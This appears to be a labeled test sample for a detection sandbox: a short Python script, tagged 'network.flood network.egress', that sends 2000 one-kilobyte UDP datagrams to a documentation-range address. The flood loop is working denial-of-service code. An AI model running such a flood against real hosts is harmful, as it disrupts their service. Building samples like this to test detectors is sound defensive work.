# scenario: 20 amplification
# expect: network.flood network.egress
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Floods a host with UDP datagrams.
import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
payload = b"X" * 1024
sent = 0
for _ in range(2000):
    try:
        sock.sendto(payload, ("203.0.113.50", 9999))
        sent += 1
    except OSError:
        pass
print("sent", sent)
